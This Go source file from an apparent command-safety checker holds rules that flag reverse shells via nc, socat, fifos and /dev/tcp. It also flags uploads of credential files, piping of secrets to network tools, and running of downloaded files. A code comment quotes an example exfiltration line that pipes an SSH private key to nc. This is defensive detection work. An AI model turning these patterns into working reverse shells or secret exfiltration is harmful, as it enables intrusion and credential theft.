package safety

import "strings"

// Rules about the network: reverse shells, sending secrets away, downloads that are then run.

func init() {
	register(ruleCurl, "curl", "wget", "http", "https", "xh", "curlie")
	register(ruleNetcat, "nc", "ncat", "netcat", "telnet")
	register(ruleSocat, "socat")
	register(ruleCopyOut, "scp", "rsync", "sftp", "rclone")
	wholeRules = append(wholeRules, wholeReverseShell, wholeSecretPipe, wholeRunDownloaded)
}

// netSinks send what they read to another host.
var netSinks = setOf("nc", "ncat", "netcat", "telnet", "socat", "curl", "wget", "ssh", "openssl", "http",
	"https", "xh", "mail", "mailx", "sendmail", "mutt", "ftp", "tftp", "smbclient")

func ruleCurl(c *checker, cl *call) {
	args := cl.Args
	saves := cl.Name == "wget" && !hasFlag(args, "", "--spider") && !wgetToStdout(args)
	defer func() {
		if saves && cl.Name != "http" && cl.Name != "https" {
			c.flagCall(cl, "net.download", Moderate, cl.Name+" downloads a file from the network")
		}
	}()
	for i := 0; i < len(args); i++ {
		v := args[i].Value
		name, val, hasVal := strings.Cut(v, "=")
		next := func() (arg, bool) {
			if hasVal {
				a := args[i]
				a.Value = val
				return a, true
			}
			if i+1 < len(args) {
				return args[i+1], true
			}
			return arg{}, false
		}
		switch name {
		case "-d", "--data", "--data-binary", "--data-raw", "--data-urlencode", "--data-ascii", "-F", "--form",
			"--form-string", "--json", "--post-file", "--body-file", "-T", "--upload-file":
			a, ok := next()
			if !ok {
				continue
			}
			c.uploads(cl, name, a)
		case "-o", "--output", "-O", "--output-document", "-P", "--directory-prefix":
			if a, ok := next(); ok && !a.Dynamic && a.Value != "-" && (cl.Name == "curl" && name != "-O" || cl.Name == "wget" && name != "-o") {
				c.noteDownload(a.Value)
				saves = true
				t := c.abs(cl, a)
				if k := classifyPath(t.Value, c.home); k == pathSensitive || k == pathSystemSub || k == pathSystem || k == pathDotfile || k == pathDevice {
					c.overwrite(cl, t, cl.Name+" overwrites")
				}
				if kind := c.persistKind(t.Value); kind != "" {
					c.flagCall(cl, "net.download-persist", Critical, cl.Name+" writes what it downloads to "+t.Value+", "+
						persistWhat[kind]+": code from the network that runs, or lets someone in, later")
				}
			} else if ok && name == "-O" && cl.Name == "curl" {
				saves = true
			}
		case "--remote-name", "--remote-name-all", "-OL", "-LO", "-JO", "-OJ", "-JLO", "-LJO", "-sLO", "-fsSLO", "-sSLO":
			saves = true
		}
		if strings.HasPrefix(v, "-d@") || strings.HasPrefix(v, "-F") && len(v) > 2 && !strings.HasPrefix(v, "--") {
			a := args[i]
			a.Value = v[2:]
			c.uploads(cl, v[:2], a)
		}
		if !args[i].Dynamic && (strings.HasPrefix(v, "http://") || strings.HasPrefix(v, "https://") || strings.HasPrefix(v, "ftp://")) {
			u := strings.TrimRight(strings.SplitN(v, "?", 2)[0], "/")
			if j := strings.LastIndexByte(u, '/'); j > len("https://") {
				c.noteDownload(u[j+1:])
				c.noteDownload("./" + u[j+1:])
			}
		}
	}
}

func wgetToStdout(args []arg) bool {
	for i, a := range args {
		v := a.Value
		if strings.HasPrefix(v, "-") && !strings.HasPrefix(v, "--") && (strings.HasSuffix(v, "O-") ||
			strings.HasSuffix(v, "O") && i+1 < len(args) && args[i+1].Value == "-") || v == "--output-document=-" {
			return true
		}
	}
	return false
}

func (c *checker) noteDownload(name string) {
	if c.downloaded == nil {
		c.downloaded = map[string]bool{}
	}
	c.downloaded[name] = true
	c.downloaded[strings.TrimPrefix(name, "./")] = true
}

// uploads judges one piece of data curl or wget sends: a file reference (@path) or inline text that
// holds substitutions reading secrets.
func (c *checker) uploads(cl *call, opt string, a arg) {
	v := a.Value
	if _, after, ok := strings.Cut(v, "@"); ok && (opt == "-F" || opt == "--form" || strings.HasPrefix(v, "@")) {
		v = after
		if i := strings.IndexByte(v, ';'); i >= 0 {
			v = v[:i]
		}
	} else if opt != "-T" && opt != "--upload-file" && opt != "--post-file" && opt != "--body-file" {
		v = ""
	}
	if v == "-" && c.readsSecret(cl.PipeIn, 0) {
		c.flagCall(cl, "net.exfiltrate", Critical, "sends secrets read earlier in the pipeline to a remote host")
		return
	}
	if v != "" && isSecret(v, c.home) {
		c.flagCall(cl, "net.exfiltrate", Critical, "uploads "+v+", which holds keys or credentials, to a remote host")
		return
	}
	if len(a.Subs) > 0 && c.readsSecret(a.Subs, 0) {
		c.flagCall(cl, "net.exfiltrate", Critical, "sends the content of a secret file to a remote host")
	}
}

// readsSecret reports whether any of the calls (or what feeds them) read a credentials file.
func (c *checker) readsSecret(idx []int, depth int) bool {
	if depth > maxPipeStages {
		c.tooComplex("it passes data through more than %d stages before sending it", maxPipeStages)
		return false
	}
	for _, i := range idx {
		if i < 0 || i >= len(c.calls) {
			continue
		}
		up := &c.calls[i]
		for _, a := range up.Args {
			if !a.Dynamic && isSecret(a.Value, c.home) && !strings.HasPrefix(a.Value, "-") {
				return true
			}
		}
		for _, r := range up.Redirs {
			if r.Op == "<" && isSecret(r.Target.Value, c.home) {
				return true
			}
		}
		if up.Name == "gpg" && hasFlag(up.Args, "", "--export-secret-keys", "--export-secret-subkeys") ||
			up.Name == "pass" && len(up.Args) > 0 || up.Name == "security" && hasFlag(up.Args, "w", "") {
			return true
		}
		if up.Name == "env" || up.Name == "printenv" || up.Name == "set" && len(up.Args) == 0 {
			return true
		}
		if c.readsSecret(up.PipeIn, depth+1) {
			return true
		}
	}
	return false
}

func ruleNetcat(c *checker, cl *call) {
	for i, a := range cl.Args {
		v := a.Value
		switch {
		case v == "-e" || v == "-c" || v == "--exec" || v == "--sh-exec" || v == "--lua-exec" ||
			strings.HasPrefix(v, "--exec=") || strings.HasPrefix(v, "--sh-exec=") ||
			len(v) > 2 && v[0] == '-' && v[1] != '-' && strings.ContainsAny(v[len(v)-1:], "ec") && cl.Name != "telnet":
			prog := ""
			if i+1 < len(cl.Args) {
				prog = cl.Args[i+1].Value
			}
			c.flagCall(cl, "net.reverse-shell", Critical, cl.Name+" "+v+" "+prog+" gives whoever connects a program (usually a shell) on this machine")
			return
		}
	}
	for _, r := range cl.Redirs {
		if r.Op == "<" && isSecret(r.Target.Value, c.home) {
			c.flagCall(cl, "net.exfiltrate", Critical, "sends "+r.Target.Value+" to a remote host")
			return
		}
	}
	if c.readsSecret(cl.PipeIn, 0) {
		c.flagCall(cl, "net.exfiltrate", Critical, "sends secrets read earlier in the pipeline to a remote host")
	}
}

func ruleSocat(c *checker, cl *call) {
	for _, a := range cl.Args {
		l := strings.ToLower(a.Value)
		if strings.HasPrefix(l, "exec:") || strings.HasPrefix(l, "system:") || strings.Contains(l, ",exec:") ||
			strings.HasPrefix(l, "exec,") {
			c.flagCall(cl, "net.reverse-shell", Critical, "socat connects a program ("+a.Value+") to the network: a remote shell")
			return
		}
	}
	if c.readsSecret(cl.PipeIn, 0) {
		c.flagCall(cl, "net.exfiltrate", Critical, "sends secrets read earlier in the pipeline to a remote host")
	}
}

func ruleCopyOut(c *checker, cl *call) {
	ops := operands(cl.Args, "iPlFoSecJ")
	if len(ops) < 2 {
		return
	}
	dst := ops[len(ops)-1]
	if !strings.Contains(dst.Value, ":") || strings.HasPrefix(dst.Value, "/") || strings.HasPrefix(dst.Value, "./") {
		return
	}
	for _, src := range ops[:len(ops)-1] {
		if !src.Dynamic && !strings.Contains(src.Value, ":") && isSecret(src.Value, c.home) {
			c.flagCall(cl, "net.exfiltrate", Critical, "copies "+src.Value+", which holds keys or credentials, to "+dst.Value)
			return
		}
	}
}

// wholeReverseShell catches the classic fifo and /dev/tcp reverse shells, which spread over several calls.
func wholeReverseShell(c *checker) {
	var shell, fifo, sink, devtcp = -1, -1, -1, -1
	for i := range c.calls {
		cl := &c.calls[i]
		switch {
		case shells[cl.Name] || interpreters[cl.Name] || cl.Dynamic:
			if shell < 0 {
				shell = i
			}
		case cl.Name == "mkfifo" || cl.Name == "mknod":
			fifo = i
		case cl.Name == "nc" || cl.Name == "ncat" || cl.Name == "netcat" || cl.Name == "telnet" ||
			cl.Name == "openssl" && len(cl.Args) > 0 && cl.Args[0].Value == "s_client" || cl.Name == "socat":
			sink = i
		}
		for _, r := range cl.Redirs {
			if isNetDev(r.Target.Value) {
				devtcp = i
			}
		}
	}
	if shell < 0 {
		return
	}
	switch {
	case sink >= 0 && (fifo >= 0 || c.pipedTogether(shell, sink)):
		c.findings = append(c.findings, finding{call: sink, Finding: Finding{Rule: "net.reverse-shell", Risk: Critical,
			Span: c.calls[sink].Span, Message: "wires a shell to a network connection: a remote host gets a shell on this machine"}})
	case devtcp >= 0:
		c.findings = append(c.findings, finding{call: devtcp, Finding: Finding{Rule: "net.reverse-shell", Risk: Critical,
			Span: c.calls[devtcp].Span, Message: "wires a shell to /dev/tcp: a remote host gets a shell on this machine"}})
	}
}

// pipedTogether reports whether calls a and b are connected by a pipe, either way round.
func (c *checker) pipedTogether(a, b int) bool {
	return c.upstreamOf(b, a, 0) || c.upstreamOf(a, b, 0)
}

func (c *checker) upstreamOf(down, up, depth int) bool {
	if depth > maxPipeStages || down < 0 || down >= len(c.calls) {
		return false
	}
	for _, i := range c.calls[down].PipeIn {
		if i == up || c.upstreamOf(i, up, depth+1) {
			return true
		}
	}
	return false
}

// wholeSecretPipe catches `cat ~/.ssh/id_rsa | nc host 80` style exfiltration through any network sink.
func wholeSecretPipe(c *checker) {
	for i := range c.calls {
		cl := &c.calls[i]
		if !netSinks[cl.Name] || cl.Name == "curl" || cl.Name == "nc" || cl.Name == "ncat" || cl.Name == "netcat" ||
			cl.Name == "telnet" || cl.Name == "socat" || cl.Name == "wget" {
			continue
		}
		if c.readsSecret(cl.PipeIn, 0) {
			c.findings = append(c.findings, finding{call: i, Finding: Finding{Rule: "net.exfiltrate", Risk: Critical,
				Span: cl.Span, Message: "sends secrets read earlier in the pipeline to " + cl.Name}})
		}
	}
}

// wholeRunDownloaded catches a download saved to a file that the same command then runs.
func wholeRunDownloaded(c *checker) {
	if len(c.downloaded) == 0 {
		return
	}
	for i := range c.calls {
		cl := &c.calls[i]
		if cl.Dynamic || !c.downloaded[strings.TrimPrefix(cl.Path, "./")] || !strings.Contains(cl.Path, "/") {
			continue
		}
		c.findings = append(c.findings, finding{call: i, Finding: Finding{Rule: "net.download-exec", Risk: High,
			Span: cl.Span, Message: "runs " + cl.Path + ", downloaded from the network just before"}})
	}
}
